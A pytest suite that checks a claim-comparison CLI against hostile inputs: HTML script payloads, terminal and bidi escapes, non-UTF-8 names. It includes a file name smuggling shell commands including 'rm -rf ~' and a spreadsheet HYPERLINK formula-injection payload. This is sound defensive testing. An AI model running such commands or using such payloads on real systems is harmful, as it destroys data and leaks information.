"""The adversarial corpus (tests/support/hostile_corpus.py): each case ends as documented, in bounded
time and memory, without a traceback; and the CLI reads all of them in one run."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from .conftest import REPO
from .support.hostile_corpus import CASES, NEWLINE_NAME, SMALL_CASE_SECONDS, HostileCase, build_corpus

ENV = {**os.environ, "PYTHONPATH": str(REPO), "HF_HUB_OFFLINE": "1"}


def claimcmp(*args: str, cwd: Path | None = None, env: dict[str, str] = ENV) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "claimcmp", *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=300
    )


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_corpus(tmp_path_factory.mktemp("hostile"))


@pytest.mark.parametrize("case", CASES, ids=[c.name.split("\n")[0] for c in CASES])
def test_each_hostile_input_ends_as_documented_in_bounded_time_and_memory(corpus: Path, case: HostileCase) -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "tests.support.hostile_corpus", str(corpus), case.name],
        cwd=corpus,  # a file name that runs a command would leave its mark here
        env=ENV,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
    record = json.loads(proc.stdout)
    assert record["outcome"] == case.outcome, record
    messages = " ".join(record["messages"])
    assert case.detail in messages, messages[:500]
    if case.outcome == "processed":
        low, high = case.statements
        assert low <= record["statements"] <= high, record["statements"]
        assert record["longest"] <= 2000  # segmentation.max_chars
    assert record["seconds"] <= case.max_seconds, record["seconds"]
    assert record["memory_mb"] <= case.max_memory_mb, record["memory_mb"]
    if case.statements[0] >= 1000:
        assert record["memory_mb"] > 5  # the measure is live: megabytes of text take memory
    assert not (corpus / "PWNED").exists()


def test_script_payloads_never_become_statements(corpus: Path) -> None:
    from claimcmp.pipeline import analyse

    texts = " ".join(s.text for s in analyse([corpus / "script_payload.html"]).segments)
    assert "Путин направил письмо" in texts
    for payload in ("alert", "fetch(", "javascript:", "onerror", "Это не текст статьи", "127.0.0.1"):
        assert payload not in texts


def test_the_cli_reads_the_whole_corpus_in_one_run_listing_what_it_skipped(corpus: Path, tmp_path: Path) -> None:
    # the megabyte cases have their own test above
    small = [c.name for c in CASES if c.max_seconds <= SMALL_CASE_SECONDS]
    out = tmp_path / "out.json"
    proc = claimcmp("inspect", *small, "--json", str(out), cwd=corpus)
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    assert all(line.startswith("warning: ") for line in proc.stderr.splitlines()), proc.stderr
    assert "\x1b" not in proc.stderr  # no escape from a document reaches the terminal
    result = json.loads(out.read_text(encoding="utf-8"))
    failed = {Path(e["input"]).name for e in result["errors"]}
    assert failed == {c.name for c in CASES if c.outcome == "skipped" and c.name in small}
    documents = {d["id"] for d in result["documents"]}
    assert "evil\\nname $(touch PWNED); `id` | rm -rf ~" in documents  # the name, escaped, as its id
    assert not (corpus / "PWNED").exists()

    strict = claimcmp("inspect", *small, "--strict", cwd=corpus)
    assert strict.returncode == 1
    assert strict.stderr.startswith("error: ") and len(strict.stderr.strip().splitlines()) == 1, strict.stderr


def test_a_newline_in_a_file_name_stays_on_one_line_of_output(corpus: Path) -> None:
    proc = claimcmp("inspect", NEWLINE_NAME, "empty.txt", cwd=corpus)
    assert proc.returncode == 0, proc.stderr
    assert proc.stderr.count("\n") == 1 and "empty.txt is empty" in proc.stderr


def test_a_document_that_breaks_the_analysis_is_listed_and_the_others_are_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from claimcmp import pipeline
    from claimcmp.analysis import documents as analysing
    from claimcmp.config import InputSettings, Settings
    from claimcmp.errors import InputError

    for name in ("good", "bad", "fine"):
        (tmp_path / f"{name}.txt").write_text(f"Статья {name} о письме Путина. Ким Чен Ын ответил 9 мая.")
    real = analysing.analyse_documents

    def breaks_on_bad(documents, *args, **kwargs):  # type: ignore[no-untyped-def]
        if documents[0].id == "bad":
            raise ValueError("a bug the input triggered")
        return real(documents, *args, **kwargs)

    monkeypatch.setattr(analysing, "analyse_documents", breaks_on_bad)
    analysis = pipeline.analyse([tmp_path])
    assert [d.id for d in analysis.documents] == ["fine", "good"]
    (failure,) = analysis.skipped
    assert (
        failure.path.endswith("bad.txt") and "analysis failed (ValueError: a bug the input triggered)" in failure.reason
    )
    with pytest.raises(InputError, match="analysis failed"):
        pipeline.analyse([tmp_path], Settings(input=InputSettings(strict=True)))


@pytest.mark.skipif(sys.platform != "linux", reason="other file systems refuse names that are not UTF-8")
def test_a_file_name_that_is_not_utf8_is_read_and_shown_escaped(tmp_path: Path) -> None:
    folder = os.fsencode(tmp_path)
    with open(os.path.join(folder, b"caf\xe9.txt"), "w", encoding="utf-8") as handle:
        handle.write("Путин направил письмо Ким Чен Ыну. Ответ пришёл 9 мая.")
    out = tmp_path / "out.json"
    proc = claimcmp("inspect", str(tmp_path), "--json", str(out))
    assert proc.returncode == 0, proc.stderr
    (document,) = json.loads(out.read_text(encoding="utf-8"))["documents"]
    assert document["id"] == "caf\\xe9" and document["path"].endswith("caf\\xe9.txt")


def test_rich_markup_in_names_and_text_is_printed_as_written(tmp_path: Path) -> None:
    (tmp_path / "[red]x.txt").write_text("Путин [bold]заявил[/bold] о письме [/red]. Ответ пришёл 9 мая.\n")
    proc = claimcmp("inspect", "[red]x.txt", "missing[/].txt", cwd=tmp_path, env={**ENV, "COLUMNS": "200"})
    assert proc.returncode == 1  # the second input does not exist
    assert proc.stderr.strip() == "error: input missing[/].txt does not exist. You can fix this by checking the path."
    proc = claimcmp("inspect", "[red]x.txt", cwd=tmp_path, env={**ENV, "COLUMNS": "200"})
    assert proc.returncode == 0, proc.stderr
    assert "[red]x (ru)" in proc.stdout and "[bold]заявил[/bold] о письме [/red]." in proc.stdout


def test_bidi_controls_reach_the_terminal_as_markers(corpus: Path) -> None:
    proc = claimcmp("inspect", "zero_width_bidi.txt", cwd=corpus, env={**ENV, "COLUMNS": "200"})
    assert proc.returncode == 0, proc.stderr
    assert "⟫001⟫" in proc.stdout
    assert not any(ch in proc.stdout for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def test_statements_that_look_like_spreadsheet_formulas_are_exported_as_text() -> None:
    import csv
    import io
    from dataclasses import replace

    from claimcmp.output.export import _cell, comparison_to_csv

    from .support.html_samples import sample_comparison

    comparison = sample_comparison()
    flagged = next(p for p in comparison.pairs if p.flags)
    payload = '=HYPERLINK("http://127.0.0.1:9/?"&A1, "click")'
    segments = tuple(replace(s, text=payload) if s.id == flagged.a else s for s in comparison.segments)
    rows = list(csv.DictReader(io.StringIO(comparison_to_csv(replace(comparison, segments=segments)))))
    assert any(row["text_a"] == "'" + payload for row in rows)
    assert [_cell(t) for t in ("+1", "@SUM(A1)", "-1+2", "- Путин сказал", "Путин", "2024")] == [
        "'+1",
        "'@SUM(A1)",
        "'-1+2",
        "- Путин сказал",
        "Путин",
        "2024",
    ]
